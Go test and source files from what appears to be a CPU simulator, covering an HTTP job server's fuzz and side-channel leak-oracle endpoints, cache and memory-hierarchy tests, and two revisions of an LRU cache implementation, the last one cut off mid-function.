	if code != http.StatusOK || hdr.Get("X-Cache") != "HIT" {
		t.Fatalf("repeat campaign: %d X-Cache=%q", code, hdr.Get("X-Cache"))
	}
	if !bytes.Equal(got, got2) {
		t.Fatal("cached body differs from fresh body")
	}
	var decoded difftest.Report
	if err := json.Unmarshal(got, &decoded); err != nil {
		t.Fatal(err)
	}
	if !decoded.Clean || decoded.Runs != 3*len(difftest.Matrix(false)) {
		t.Fatalf("report: clean=%v runs=%d", decoded.Clean, decoded.Runs)
	}
}

func TestFuzzEndpointValidation(t *testing.T) {
	_, ts := newTestServer(t)
	for _, body := range []string{
		`{"seeds": -1}`,
		`{"seeds": 999999999}`,
		`{"matrix": "bogus"}`,
		`{"len": 99999}`,
		`{"unknown_field": 1}`,
	} {
		code, _, resp := do(t, "POST", ts.URL+"/v1/run/fuzz", body)
		if code != http.StatusBadRequest {
			t.Fatalf("body %s: code %d %s, want 400", body, code, resp)
		}
	}
}

func TestFuzzJob(t *testing.T) {
	_, ts := newTestServer(t)
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"fuzz": {"seeds": 2}}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	if view.Kind != "fuzz" {
		t.Fatalf("kind = %q, want fuzz", view.Kind)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		code, _, body = do(t, "GET", ts.URL+"/v1/jobs/"+view.ID, "")
		if code != http.StatusOK {
			t.Fatalf("get: %d %s", code, body)
		}
		if err := json.Unmarshal(body, &view); err != nil {
			t.Fatal(err)
		}
		if view.Status != JobRunning && view.Status != JobPending {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("fuzz job did not finish in time")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if view.Status != JobDone {
		t.Fatalf("job status = %s (%s)", view.Status, view.Error)
	}
	var rep difftest.Report
	if err := json.Unmarshal(view.Result, &rep); err != nil {
		t.Fatal(err)
	}
	if !rep.Clean {
		t.Fatalf("fuzz job found divergences: %+v", rep.Divergences)
	}
	// Conflicting specs are rejected up front.
	code, _, body = do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "ipc", "fuzz": {"seeds": 2}}`)
	if code != http.StatusBadRequest {
		t.Fatalf("conflicting job accepted: %d %s", code, body)
	}
}

// TestLeakJob covers the leak-oracle arm of POST /v1/jobs: the "leaks"
// driver alias flips the spec to the leak engine, the job completes with a
// leak.Report, and the oracle conflicts are rejected up front.
func TestLeakJob(t *testing.T) {
	_, ts := newTestServer(t)
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "leaks", "fuzz": {"seeds": 2, "no_shrink": true}}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	if view.Kind != "fuzz" {
		t.Fatalf("kind = %q, want fuzz", view.Kind)
	}
	deadline := time.Now().Add(60 * time.Second)
	for {
		code, _, body = do(t, "GET", ts.URL+"/v1/jobs/"+view.ID, "")
		if code != http.StatusOK {
			t.Fatalf("get: %d %s", code, body)
		}
		if err := json.Unmarshal(body, &view); err != nil {
			t.Fatal(err)
		}
		if view.Status != JobRunning && view.Status != JobPending {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("leak job did not finish in time")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if view.Status != JobDone {
		t.Fatalf("job status = %s (%s)", view.Status, view.Error)
	}
	var rep leak.Report
	if err := json.Unmarshal(view.Result, &rep); err != nil {
		t.Fatal(err)
	}
	if !rep.Spec.Leaks {
		t.Fatal("job result is not a leak-oracle report")
	}
	if !rep.Clean {
		t.Fatalf("leak job reported oracle errors: %+v", rep.Findings)
	}
	if len(rep.Corpus) == 0 {
		t.Fatal("leak report carries no golden-corpus rows")
	}
	// The golden corpus must behave inside the server exactly as in the
	// engine's own tests: defenses off leaks, SL defense silent.
	for _, row := range rep.Corpus {
		switch row.Config {
		case "original-rob256":
			if !row.Leak {
				t.Errorf("corpus %s/%s: expected leak with defenses off", row.Program, row.Config)
			}
		case "original-rob256-secure":
			if row.Leak {
				t.Errorf("corpus %s/%s: SL defense failed to suppress", row.Program, row.Config)
			}
		}
	}
	// The two oracles are mutually exclusive.
	code, _, body = do(t, "POST", ts.URL+"/v1/jobs", `{"fuzz": {"seeds": 2, "leaks": true, "interleave": true}}`)
	if code != http.StatusBadRequest {
		t.Fatalf("leaks+interleave accepted: %d %s", code, body)
	}
	// And the synchronous endpoint dispatches on the same spec field.
	code, _, body = do(t, "POST", ts.URL+"/v1/run/fuzz", `{"seeds": 2, "leaks": true, "no_shrink": true}`)
	if code != http.StatusOK {
		t.Fatalf("sync leak campaign: %d %s", code, body)
	}
	var sync leak.Report
	if err := json.Unmarshal(body, &sync); err != nil {
		t.Fatal(err)
	}
	if !sync.Spec.Leaks || len(sync.Corpus) == 0 {
		t.Fatalf("sync endpoint did not run the leak engine: %s", body)
	}
}
