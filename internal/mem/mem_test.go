package mem

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestMemoryReadWrite(t *testing.T) {
	m := NewMemory()
	if m.ReadU64(0x1000) != 0 {
		t.Fatal("fresh memory must read zero")
	}
	m.WriteU64(0x1000, 0xdeadbeefcafebabe)
	if got := m.ReadU64(0x1000); got != 0xdeadbeefcafebabe {
		t.Fatalf("ReadU64 = %#x", got)
	}
	if got := m.ByteAt(0x1000); got != 0xbe {
		t.Fatalf("little-endian low byte = %#x, want 0xbe", got)
	}
	// Cross-page write.
	m.Write(0x1fff, 8, 0x1122334455667788)
	if got := m.Read(0x1fff, 8); got != 0x1122334455667788 {
		t.Fatalf("cross-page read = %#x", got)
	}
	m.SetBytes(0x3000, []byte("secret"))
	if string(m.ReadBytes(0x3000, 6)) != "secret" {
		t.Fatal("SetBytes/ReadBytes round trip failed")
	}
}

func TestMemoryQuickRoundTrip(t *testing.T) {
	m := NewMemory()
	f := func(addr uint64, v uint64, szSeed uint8) bool {
		size := 1 + int(szSeed)%8
		addr %= 1 << 40
		m.Write(addr, size, v)
		want := v
		if size < 8 {
			want &= (1 << (8 * size)) - 1
		}
		return m.Read(addr, size) == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func testCache(t *testing.T) *Cache {
	t.Helper()
	return NewCache(CacheConfig{Name: "t", Size: 1 << 10, Assoc: 4, Latency: 2}, 64)
}

func TestCacheHitMiss(t *testing.T) {
	c := testCache(t)
	if hit, _ := c.Lookup(0x1000, 10); hit {
		t.Fatal("cold cache must miss")
	}
	c.Insert(0x1000, 20, false)
	hit, ready := c.Lookup(0x1000, 30)
	if !hit || ready != 30 {
		t.Fatalf("hit=%v ready=%d, want hit at 30", hit, ready)
	}
	// MSHR merge: access before the fill completes waits for it.
	c.Insert(0x2000, 100, false)
	hit, ready = c.Lookup(0x2000, 50)
	if !hit || ready != 100 {
		t.Fatalf("in-flight line: hit=%v ready=%d, want ready=100", hit, ready)
	}
}

func TestCacheLRUEviction(t *testing.T) {
	c := testCache(t) // 4 sets of 4 ways, 64B lines
	setStride := uint64(4 * 64)
	// Fill one set.
	for i := uint64(0); i < 4; i++ {
		c.Insert(0x1000+i*setStride, 0, false)
	}
	// Touch line 0 so line 1 becomes LRU.
	c.Lookup(0x1000, 1)
	c.Insert(0x1000+4*setStride, 0, false)
	if !c.Probe(0x1000) {
		t.Fatal("recently used line was evicted")
	}
	if c.Probe(0x1000 + 1*setStride) {
		t.Fatal("LRU line was not evicted")
	}
	if c.Occupancy(0x1000) != 4 {
		t.Fatalf("occupancy = %d, want 4", c.Occupancy(0x1000))
	}
}

func TestCacheInvalidate(t *testing.T) {
	c := testCache(t)
	c.Insert(0x40, 0, true)
	if !c.Invalidate(0x40) {
		t.Fatal("invalidate of present line returned false")
	}
	if c.Probe(0x40) {
		t.Fatal("line still present after invalidate")
	}
	if c.Invalidate(0x40) {
		t.Fatal("invalidate of absent line returned true")
	}
}

// Property: set occupancy never exceeds associativity, and a line just
// inserted is always present.
func TestCacheQuickOccupancy(t *testing.T) {
	c := testCache(t)
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 5000; i++ {
		la := uint64(rng.Intn(256)) * 64
		switch rng.Intn(3) {
		case 0:
			c.Insert(la, uint64(i), rng.Intn(2) == 0)
			if !c.Probe(la) {
				t.Fatalf("line %#x absent right after insert", la)
			}
		case 1:
			c.Lookup(la, uint64(i))
		case 2:
			c.Invalidate(la)
		}
		if occ := c.Occupancy(la); occ > 4 {
			t.Fatalf("occupancy %d > assoc 4", occ)
		}
	}
}

func TestHierarchyLatencies(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	// Cold miss goes to memory: 2+8+32 lookup + 200 memory.
	r := h.Access(PortD, 0x10000, 0, false)
	if r.Level != LevelMem {
		t.Fatalf("cold access level = %v, want mem", r.Level)
	}
	if r.Done != 242 {
		t.Fatalf("cold access done = %d, want 242", r.Done)
	}
	// After the fill completes, it is an L1 hit with latency 2.
	now := r.Done + 1
	r2 := h.Access(PortD, 0x10000, now, false)
	if r2.Level != LevelL1 || r2.Done != now+2 {
		t.Fatalf("warm access = %+v, want L1 at %d", r2, now+2)
	}
}

func TestHierarchyMSHRMerge(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	r1 := h.Access(PortD, 0x40, 0, false)
	// Second access to the same line while the fill is in flight must not
	// issue a second memory request and completes with the first fill.
	before := h.Stats.MemRequests
	r2 := h.Access(PortD, 0x48, 5, false)
	if h.Stats.MemRequests != before {
		t.Fatal("secondary miss issued a redundant memory request")
	}
	if r2.Done != r1.Done {
		t.Fatalf("merged miss done = %d, want %d", r2.Done, r1.Done)
	}
}

func TestHierarchyContention(t *testing.T) {
	cfg := DefaultConfig()
	h := NewHierarchy(cfg)
	// Issue many independent misses in the same cycle: the channel serialises
	// them MemBusCycles apart.
	var dones []uint64
	for i := 0; i < 8; i++ {
		r := h.Access(PortD, uint64(0x100000+i*4096), 0, false)
		dones = append(dones, r.Done)
	}
	for i := 1; i < len(dones); i++ {
		if dones[i] != dones[i-1]+uint64(cfg.MemBusCycles) {
			t.Fatalf("request %d done=%d, want %d (bus serialisation)", i, dones[i], dones[i-1]+uint64(cfg.MemBusCycles))
		}
	}
}

// Regression: Insert on a line that is already resident must merge into the
// existing entry — never move the ready time backward (the MSHR invariant: a
// merged secondary miss cannot observe data before the primary fill
// completes) and never count a second fill for a line filled once.
func TestCacheInsertMergeKeepsPrimaryFill(t *testing.T) {
	c := testCache(t)
	c.Insert(0x1000, 100, false)
	if c.Stats.Fills != 1 {
		t.Fatalf("fills = %d after primary insert, want 1", c.Stats.Fills)
	}
	// A secondary install tries to clobber the in-flight fill with an
	// earlier completion cycle (the old code took it verbatim).
	c.Insert(0x1000, 40, false)
	if hit, ready := c.Lookup(0x1000, 60); !hit || ready != 100 {
		t.Fatalf("lookup at 60: hit=%v ready=%d, want data at the primary fill cycle 100", hit, ready)
	}
	if c.Stats.Fills != 1 {
		t.Fatalf("fills = %d after refill of a resident line, want 1 (no double count)", c.Stats.Fills)
	}
	// The merge must still accumulate dirtiness and refresh LRU.
	c.Insert(0x1000, 500, true)
	if _, fill := c.ProbeReady(0x1000); fill != 100 {
		t.Fatalf("fillDone = %d after dirty merge, want 100 (resident fill is authoritative)", fill)
	}
	if ev, evDirty, had := c.Insert(0x1000, 700, false); had || evDirty || ev != 0 {
		t.Fatalf("merge reported a victim: evicted=%#x dirty=%v had=%v", ev, evDirty, had)
	}
}

// Regression for the write-back channel model: a dirty eviction reserves the
// memory channel at (or after) the cycle the eviction happens, so the next
// demand miss contends with it.  The old clamp (`if busFree < MemBusCycles {
// busFree = 0 }`) scheduled the write-back in the past whenever the channel
// had gone idle, and the following miss sailed through uncontended.
func TestHierarchyWritebackReservesChannelAtEviction(t *testing.T) {
	cfg := DefaultConfig()
	h := NewHierarchy(cfg)
	// L1D: 16KB 4-way, 64B lines -> 64 sets, same-set stride 4096.
	const base = uint64(0x100000)
	const setStride = 4096
	bus := uint64(cfg.MemBusCycles) // 4
	lat := uint64(cfg.MemLatency)   // 200
	look := uint64(2 + 8 + 32)      // L1+L2+L3 lookup latency on a full miss
	// Dirty line A at cycle 0.
	h.Access(PortD, base, 0, true)
	// Three clean conflicting lines fill A's L1D set (assoc 4).
	for i := uint64(1); i <= 3; i++ {
		h.Access(PortD, base+i*setStride, 1000*i, false)
	}
	// Long quiet period, then a fourth conflicting miss evicts dirty A.
	// Its fill completes at T+look+lat; the write-back must occupy the
	// channel from that cycle, not from the long-stale busFree.
	const T = uint64(10000)
	r := h.Access(PortD, base+4*setStride, T, false)
	evict := T + look + lat
	if r.Done != evict {
		t.Fatalf("evicting miss done = %d, want %d", r.Done, evict)
	}
	if h.Stats.Writebacks != 1 {
		t.Fatalf("writebacks = %d, want 1", h.Stats.Writebacks)
	}
	// An unrelated miss whose request would start before the write-back
	// drains must queue behind it: start = evict+bus, done = start+lat.
	now := evict - look - 100 // lookup completes 100 cycles before the eviction
	r2 := h.Access(PortD, base+(1<<20), now, false)
	want := evict + bus + lat
	if r2.Done != want {
		t.Fatalf("post-writeback miss done = %d, want %d (channel reserved %d..%d by the eviction)",
			r2.Done, want, evict, evict+bus)
	}
}

func TestHierarchyOutstandingWindow(t *testing.T) {
	cfg := DefaultConfig()
	cfg.MemMaxOutstanding = 2
	cfg.MemBusCycles = 0
	h := NewHierarchy(cfg)
	r1 := h.Access(PortD, 0x100000, 0, false)
	h.Access(PortD, 0x200000, 0, false)
	r3 := h.Access(PortD, 0x300000, 0, false)
	if r3.Done <= r1.Done {
		t.Fatalf("third request (done %d) must wait for a slot after %d", r3.Done, r1.Done)
	}
}

func TestHierarchyFlush(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	h.Access(PortD, 0x5000, 0, false)
	if !h.Present(PortD, 0x5000) {
		t.Fatal("line absent after access")
	}
	if !h.Flush(0x5000) {
		t.Fatal("flush of present line returned false")
	}
	if h.Present(PortD, 0x5000) {
		t.Fatal("line present after flush")
	}
	if h.HitLevel(PortD, 0x5000) != LevelMem {
		t.Fatal("flushed line must miss to memory")
	}
	// Flush must remove the line from every level, so a re-access is a full
	// memory-latency miss again.
	r := h.Access(PortD, 0x5000, 1000, false)
	if r.Level != LevelMem {
		t.Fatalf("post-flush access level = %v, want mem", r.Level)
	}
}

func TestHierarchyInclusiveFill(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	h.Access(PortD, 0x9000, 0, false)
	l1i, l1d, l2, l3 := h.Caches()
	_ = l1i
	la := h.LineAddr(0x9000)
	if !l1d.Probe(la) || !l2.Probe(la) || !l3.Probe(la) {
		t.Fatal("fill must install the line in L1D, L2 and L3")
	}
}

func TestHierarchyNoFill(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	r := h.AccessNoFill(PortD, 0x7000, 0)
	if r.Level != LevelMem {
		t.Fatalf("level = %v, want mem", r.Level)
	}
	if h.Present(PortD, 0x7000) {
		t.Fatal("AccessNoFill must not install the line")
	}
	// But it must time like a real memory access and contend for the channel.
	if r.Done < uint64(DefaultConfig().MemLatency) {
		t.Fatalf("done = %d, too fast for a memory access", r.Done)
	}
	// Hit timing without promotion: warm the line via a normal access, then
	// evict it from L1 only — AccessNoFill must see the L2 copy and not
	// promote it back into L1.
	h.InvalidateAll()
	h.Access(PortD, 0x8000, 0, false)
	_, l1d, _, _ := h.Caches()
	l1d.Invalidate(h.LineAddr(0x8000))
	r2 := h.AccessNoFill(PortD, 0x8000, 1000)
	if r2.Level != LevelL2 {
		t.Fatalf("level = %v, want L2", r2.Level)
	}
	if l1d.Probe(h.LineAddr(0x8000)) {
		t.Fatal("AccessNoFill promoted the line into L1")
	}
}

func TestHierarchyPortSplit(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	h.Access(PortI, 0x1000, 0, false)
	l1i, l1d, _, _ := h.Caches()
	la := h.LineAddr(0x1000)
	if !l1i.Probe(la) {
		t.Fatal("I-side access must fill L1I")
	}
	if l1d.Probe(la) {
		t.Fatal("I-side access must not fill L1D")
	}
	// D-side access now hits in L2 (unified) and fills L1D.
	r := h.Access(PortD, 0x1000, 500, false)
	if r.Level != LevelL2 {
		t.Fatalf("D access after I fill: level = %v, want L2", r.Level)
	}
}

func TestRunaheadCache(t *testing.T) {
	rc := NewRunaheadCache(64)
	if _, present, _ := rc.Read(0x100, 8); present {
		t.Fatal("empty runahead cache must not be present")
	}
	rc.Write(0x100, 8, 0xaabbccdd, false)
	v, present, inv := rc.Read(0x100, 8)
	if !present || inv || v != 0xaabbccdd {
		t.Fatalf("read = %#x present=%v inv=%v", v, present, inv)
	}
	// Partial coverage: reading wider than written is not present.
	if _, present, _ := rc.Read(0xfc, 8); present {
		t.Fatal("partially covered read must not be present")
	}
	if !rc.Covers(0xfc, 8) {
		t.Fatal("Covers must detect partial overlap")
	}
	// INV store poisons reads.
	rc.Write(0x200, 1, 0x55, true)
	_, present, inv = rc.Read(0x200, 1)
	if !present || !inv {
		t.Fatal("INV byte must read back present and poisoned")
	}
	rc.Clear()
	if rc.Len() != 0 {
		t.Fatal("Clear must empty the cache")
	}
}

func TestRunaheadCacheEviction(t *testing.T) {
	rc := NewRunaheadCache(8)
	for i := 0; i < 16; i++ {
		rc.Write(uint64(i), 1, uint64(i), false)
	}
	if rc.Len() > 8 {
		t.Fatalf("len = %d exceeds capacity 8", rc.Len())
	}
	// Newest bytes survive.
	if _, present, _ := rc.Read(15, 1); !present {
		t.Fatal("most recent byte was evicted")
	}
}

// Property: after Flush, a line is absent from every level regardless of the
// access history that preceded it.
func TestQuickFlushRemovesEverywhere(t *testing.T) {
	h := NewHierarchy(DefaultConfig())
	rng := rand.New(rand.NewSource(7))
	now := uint64(0)
	for i := 0; i < 2000; i++ {
		addr := uint64(rng.Intn(1<<16)) &^ 7
		now += 5
		switch rng.Intn(4) {
		case 0, 1:
			h.Access(PortD, addr, now, rng.Intn(2) == 0)
		case 2:
			h.Access(PortI, addr, now, false)
		case 3:
			h.Flush(addr)
			if h.Present(PortD, addr) || h.Present(PortI, addr) {
				t.Fatalf("addr %#x still present after flush", addr)
			}
		}
	}
}
