package mem

import "fmt"

// CacheConfig describes one cache level.
type CacheConfig struct {
	Name    string `json:"name"`
	Size    int    `json:"size"`    // total bytes
	Assoc   int    `json:"assoc"`   // ways per set
	Latency int    `json:"latency"` // access latency in cycles
}

// CacheStats counts cache events.
type CacheStats struct {
	Hits        uint64
	Misses      uint64
	Fills       uint64
	Evictions   uint64
	Invalidates uint64
}

type line struct {
	addr     uint64 // line-aligned address; the full address doubles as tag
	valid    bool
	dirty    bool
	lru      uint64 // higher = more recently used
	fillDone uint64 // cycle at which the fill data arrives (MSHR merge point)
}

// Cache is one set-associative, LRU, write-back cache level.  It tracks tags
// and fill timing only; data lives in the functional Memory.
type Cache struct {
	cfg      CacheConfig
	lineSize int
	numSets  int
	sets     []line // numSets * Assoc, laid out set-major
	lruClock uint64

	Stats CacheStats
}

// NewCache builds a cache.  Size must be a multiple of Assoc*lineSize and the
// set count must be a power of two.
func NewCache(cfg CacheConfig, lineSize int) *Cache {
	if cfg.Size <= 0 || cfg.Assoc <= 0 || lineSize <= 0 {
		panic(fmt.Sprintf("mem: bad cache config %+v line %d", cfg, lineSize))
	}
	numSets := cfg.Size / (cfg.Assoc * lineSize)
	if numSets <= 0 || numSets&(numSets-1) != 0 {
		panic(fmt.Sprintf("mem: %s: set count %d is not a power of two", cfg.Name, numSets))
	}
	return &Cache{
		cfg:      cfg,
		lineSize: lineSize,
		numSets:  numSets,
		sets:     make([]line, numSets*cfg.Assoc),
	}
}

// Config returns the cache configuration.
func (c *Cache) Config() CacheConfig { return c.cfg }

// NumSets reports the number of sets.
func (c *Cache) NumSets() int { return c.numSets }

func (c *Cache) set(lineAddr uint64) []line {
	idx := (lineAddr / uint64(c.lineSize)) & uint64(c.numSets-1)
	return c.sets[idx*uint64(c.cfg.Assoc) : (idx+1)*uint64(c.cfg.Assoc)]
}

// Lookup checks for lineAddr.  On a hit it updates LRU state and returns the
// cycle at which the data is available (later than now for an in-flight fill
// that a second miss merged into, i.e. an MSHR secondary miss).
func (c *Cache) Lookup(lineAddr, now uint64) (hit bool, readyAt uint64) {
	s := c.set(lineAddr)
	for i := range s {
		if s[i].valid && s[i].addr == lineAddr {
			c.lruClock++
			s[i].lru = c.lruClock
			c.Stats.Hits++
			ready := now
			if s[i].fillDone > now {
				ready = s[i].fillDone
			}
			return true, ready
		}
	}
	c.Stats.Misses++
	return false, 0
}

// Probe reports presence without perturbing LRU or statistics.  Used by the
// harness and by the secure runahead mode's side-effect-free checks.
func (c *Cache) Probe(lineAddr uint64) bool {
	s := c.set(lineAddr)
	for i := range s {
		if s[i].valid && s[i].addr == lineAddr {
			return true
		}
	}
	return false
}

// ProbeReady reports presence and the fill-completion cycle.
func (c *Cache) ProbeReady(lineAddr uint64) (present bool, fillDone uint64) {
	s := c.set(lineAddr)
	for i := range s {
		if s[i].valid && s[i].addr == lineAddr {
			return true, s[i].fillDone
		}
	}
	return false, 0
}

// Insert installs lineAddr with the given fill-completion cycle, evicting the
// LRU victim if needed.  It returns the evicted line address and whether the
// victim was dirty (for write-back traffic accounting).
func (c *Cache) Insert(lineAddr, fillDone uint64, dirty bool) (evicted uint64, evictedDirty, hadVictim bool) {
	s := c.set(lineAddr)
	for i := range s {
		if s[i].valid && s[i].addr == lineAddr {
			// Refill of a resident line (e.g. write install racing a read
			// miss merge): merge into the existing entry instead of
			// reinstalling.  The resident entry is the primary fill, so its
			// ready time is authoritative — a merged secondary miss can
			// never observe data before the primary fill completes — and
			// the line was filled once, so Fills must not count again.
			c.lruClock++
			s[i].lru = c.lruClock
			s[i].dirty = s[i].dirty || dirty
			return 0, false, false
		}
	}
	victim := -1
	for i := range s {
		if !s[i].valid {
			victim = i
			break
		}
	}
	if victim < 0 {
		victim = 0
		for i := 1; i < len(s); i++ {
			if s[i].lru < s[victim].lru {
				victim = i
			}
		}
		evicted, evictedDirty, hadVictim = s[victim].addr, s[victim].dirty, true
		c.Stats.Evictions++
	}
	c.lruClock++
	s[victim] = line{addr: lineAddr, valid: true, dirty: dirty, lru: c.lruClock, fillDone: fillDone}
	c.Stats.Fills++
	return evicted, evictedDirty, hadVictim
}

// SetDirty marks a present line dirty (store hit).
func (c *Cache) SetDirty(lineAddr uint64) {
	s := c.set(lineAddr)
	for i := range s {
		if s[i].valid && s[i].addr == lineAddr {
			s[i].dirty = true
			return
		}
	}
}

// Invalidate removes lineAddr if present and reports whether it was.
func (c *Cache) Invalidate(lineAddr uint64) bool {
	s := c.set(lineAddr)
	for i := range s {
		if s[i].valid && s[i].addr == lineAddr {
			s[i] = line{}
			c.Stats.Invalidates++
			return true
		}
	}
	return false
}

// InvalidateAll empties the cache (used between simulations).
func (c *Cache) InvalidateAll() {
	for i := range c.sets {
		c.sets[i] = line{}
	}
}

// Reset returns the cache to its just-constructed state: empty, with the LRU
// clock and statistics cleared, so a reused machine behaves byte-identically
// to a fresh one.
func (c *Cache) Reset() {
	c.InvalidateAll()
	c.lruClock = 0
	c.Stats = CacheStats{}
}

// Occupancy reports the number of valid lines in the set holding lineAddr
// (for property tests: never exceeds associativity).
func (c *Cache) Occupancy(lineAddr uint64) int {
	n := 0
	for _, l := range c.set(lineAddr) {
		if l.valid {
			n++
		}
	}
	return n
}
