package mem

import "fmt"

// CacheConfig describes one cache level.
type CacheConfig struct {
	Name    string `json:"name"`
	Size    int    `json:"size"`    // total bytes
	Assoc   int    `json:"assoc"`   // ways per set
	Latency int    `json:"latency"` // access latency in cycles
}

// CacheStats counts cache events.
type CacheStats struct {
	Hits        uint64
	Misses      uint64
	Fills       uint64
	Evictions   uint64
	Invalidates uint64
}

// line is one cache way.  Validity is epoch-tagged: the line is present iff
// epoch matches the cache's current epoch, which makes InvalidateAll/Reset a
// counter bump instead of an O(size) clear (clearing the multi-megabyte L3
// array per machine Reset dominated whole-simulation profiles).  prev/next
// thread the line into its set's recency list.
type line struct {
	addr     uint64 // line-aligned address; the full address doubles as tag
	fillDone uint64 // cycle at which the fill data arrives (MSHR merge point)
	epoch    uint64 // valid iff == Cache.epoch (0 is never a live epoch)
	dirty    bool
	prev     int16 // way index of the next-more-recent line (-1 = MRU)
	next     int16 // way index of the next-less-recent line (-1 = LRU)
}

// Cache is one set-associative, LRU, write-back cache level.  It tracks tags
// and fill timing only; data lives in the functional Memory.
//
// Replacement is exact LRU — the LRU order is observable timing state (which
// victim a fill evicts decides later hits and misses), so approximations are
// off the table — but nothing scans: each set carries an intrusive
// doubly-linked recency list (head = MRU, tail = LRU), giving O(1) touch on
// hit and an O(1) victim on fill.  Set lists are themselves epoch-tagged and
// lazily re-initialised after an invalidation epoch bump.
type Cache struct {
	cfg      CacheConfig
	lineSize int
	numSets  int
	sets     []line // numSets * Assoc, laid out set-major

	// Per-set recency-list state, valid iff setEpoch matches epoch.
	mru, lru []int16 // way index of the most/least recently used line (-1 = empty)
	nvalid   []int16 // live lines in the set
	setEpoch []uint64

	epoch uint64 // current validity epoch; bumped by InvalidateAll

	Stats CacheStats
}

// NewCache builds a cache.  Size must be a multiple of Assoc*lineSize and the
// set count must be a power of two.
func NewCache(cfg CacheConfig, lineSize int) *Cache {
	if cfg.Size <= 0 || cfg.Assoc <= 0 || lineSize <= 0 {
		panic(fmt.Sprintf("mem: bad cache config %+v line %d", cfg, lineSize))
	}
	numSets := cfg.Size / (cfg.Assoc * lineSize)
	if numSets <= 0 || numSets&(numSets-1) != 0 {
		panic(fmt.Sprintf("mem: %s: set count %d is not a power of two", cfg.Name, numSets))
	}
	return &Cache{
		cfg:      cfg,
		lineSize: lineSize,
		numSets:  numSets,
		sets:     make([]line, numSets*cfg.Assoc),
		mru:      make([]int16, numSets),
		lru:      make([]int16, numSets),
		nvalid:   make([]int16, numSets),
		setEpoch: make([]uint64, numSets),
		epoch:    1,
	}
}

// Config returns the cache configuration.
func (c *Cache) Config() CacheConfig { return c.cfg }

// NumSets reports the number of sets.
func (c *Cache) NumSets() int { return c.numSets }

func (c *Cache) setIdx(lineAddr uint64) int {
	return int((lineAddr / uint64(c.lineSize)) & uint64(c.numSets-1))
}

func (c *Cache) set(lineAddr uint64) []line {
	idx := c.setIdx(lineAddr)
	return c.sets[idx*c.cfg.Assoc : (idx+1)*c.cfg.Assoc]
}

// initSet lazily resets a set's recency list after an epoch bump.
func (c *Cache) initSet(idx int) {
	if c.setEpoch[idx] != c.epoch {
		c.setEpoch[idx] = c.epoch
		c.mru[idx], c.lru[idx], c.nvalid[idx] = -1, -1, 0
	}
}

// findWay probes the set's tags for lineAddr and returns the way (-1 miss).
func (c *Cache) findWay(s []line, lineAddr uint64) int {
	for i := range s {
		if s[i].epoch == c.epoch && s[i].addr == lineAddr {
			return i
		}
	}
	return -1
}

// touch moves way w to the MRU head of set idx.
func (c *Cache) touch(idx int, s []line, w int) {
	if c.mru[idx] == int16(w) {
		return
	}
	c.unlink(idx, s, w)
	c.linkMRU(idx, s, w)
}

// unlink removes way w from set idx's recency list.
func (c *Cache) unlink(idx int, s []line, w int) {
	p, n := s[w].prev, s[w].next
	if p >= 0 {
		s[p].next = n
	} else {
		c.mru[idx] = n
	}
	if n >= 0 {
		s[n].prev = p
	} else {
		c.lru[idx] = p
	}
}

// linkMRU inserts way w at the MRU head of set idx's recency list.
func (c *Cache) linkMRU(idx int, s []line, w int) {
	h := c.mru[idx]
	s[w].prev, s[w].next = -1, h
	if h >= 0 {
		s[h].prev = int16(w)
	} else {
		c.lru[idx] = int16(w)
	}
	c.mru[idx] = int16(w)
}

// Lookup checks for lineAddr.  On a hit it updates LRU state and returns the
// cycle at which the data is available (later than now for an in-flight fill
// that a second miss merged into, i.e. an MSHR secondary miss).
func (c *Cache) Lookup(lineAddr, now uint64) (hit bool, readyAt uint64) {
	idx := c.setIdx(lineAddr)
	c.initSet(idx)
	s := c.sets[idx*c.cfg.Assoc : (idx+1)*c.cfg.Assoc]
	if w := c.findWay(s, lineAddr); w >= 0 {
		c.touch(idx, s, w)
		c.Stats.Hits++
		ready := now
		if s[w].fillDone > now {
			ready = s[w].fillDone
		}
		return true, ready
	}
	c.Stats.Misses++
	return false, 0
}

// Probe reports presence without perturbing LRU or statistics.  Used by the
// harness and by the secure runahead mode's side-effect-free checks.
func (c *Cache) Probe(lineAddr uint64) bool {
	return c.findWay(c.set(lineAddr), lineAddr) >= 0
}

// ProbeReady reports presence and the fill-completion cycle.
func (c *Cache) ProbeReady(lineAddr uint64) (present bool, fillDone uint64) {
	s := c.set(lineAddr)
	if w := c.findWay(s, lineAddr); w >= 0 {
		return true, s[w].fillDone
	}
	return false, 0
}

// Insert installs lineAddr with the given fill-completion cycle, evicting the
// LRU victim if needed.  It returns the evicted line address and whether the
// victim was dirty (for write-back traffic accounting).
func (c *Cache) Insert(lineAddr, fillDone uint64, dirty bool) (evicted uint64, evictedDirty, hadVictim bool) {
	idx := c.setIdx(lineAddr)
	c.initSet(idx)
	s := c.sets[idx*c.cfg.Assoc : (idx+1)*c.cfg.Assoc]
	if w := c.findWay(s, lineAddr); w >= 0 {
		// Refill of a resident line (e.g. write install racing a read miss
		// merge): merge into the existing entry instead of reinstalling.  The
		// resident entry is the primary fill, so its ready time is
		// authoritative — a merged secondary miss can never observe data
		// before the primary fill completes — and the line was filled once,
		// so Fills must not count again.
		c.touch(idx, s, w)
		s[w].dirty = s[w].dirty || dirty
		return 0, false, false
	}
	var victim int
	if int(c.nvalid[idx]) < len(s) {
		// A free way exists; which one is unobservable, so take the first.
		victim = -1
